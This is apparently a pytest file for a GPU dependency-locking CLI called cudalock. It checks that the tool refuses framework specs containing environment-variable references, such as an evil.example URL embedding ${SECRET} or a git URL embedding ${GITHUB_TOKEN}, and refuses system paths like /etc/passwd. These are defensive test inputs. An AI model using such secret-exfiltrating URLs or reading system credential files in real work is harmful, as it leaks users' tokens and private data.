"""What cudalock hands to uv and pip is what the user wrote: no environment variable expanded
into it, no system directory taken for a project — refused with a usage error, before any
network is read."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli.test_errors import GPU_TARGET, assert_usage_error
from tests.support.cli import cudalock
from tests.support.index import offline_env

REQUEST = ["--torch", "==2.1.0", "--python", "3.11"]


@pytest.mark.parametrize(
    "framework",
    [
        "peft @ https://evil.example/${HOME}/peft-0.1-py3-none-any.whl",
        "git+https://${GITHUB_TOKEN}@github.com/org/repo",
        "./${SECRET}",
    ],
)
@pytest.mark.parametrize("command", ["lock", "bootstrap"])
def test_a_variable_reference_in_a_framework_is_refused_not_expanded(
    tmp_path: Path, framework: str, command: str
) -> None:
    env = {**offline_env(), "SECRET": "s3cret-value", "GITHUB_TOKEN": "s3cret-value"}
    done = cudalock(
        command, "-o", "out", *GPU_TARGET, *REQUEST, "--framework", framework, cwd=tmp_path, env=env
    )
    assert_usage_error(done, "holds '${'")
    assert "s3cret-value" not in done.stdout + done.stderr
    assert not (tmp_path / "out").exists()


def test_a_variable_reference_in_a_committed_spec_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "cudalock.toml").write_text(
        'spec_version = 1\n[request]\ntorch = "==2.1.0"\npython = "3.11"\n'
        'frameworks = ["peft @ https://evil.example/${SECRET}.whl"]\n'
    )
    done = cudalock("lock", "-o", out, *GPU_TARGET, env={**offline_env(), "SECRET": "s3cret-value"})
    assert_usage_error(done, "holds '${'")
    assert "s3cret-value" not in done.stdout + done.stderr


@pytest.mark.parametrize("framework", ["/etc", "file:///etc", "file:///etc/passwd", "/etc/passwd"])
def test_a_system_path_as_framework_is_a_usage_error_not_a_network_failure(
    tmp_path: Path, framework: str
) -> None:
    done = cudalock(
        "lock", "-o", "out", *GPU_TARGET, *REQUEST, "--framework", framework, cwd=tmp_path
    )
    line = assert_usage_error(done, framework)
    assert "network" not in line and "index" not in line
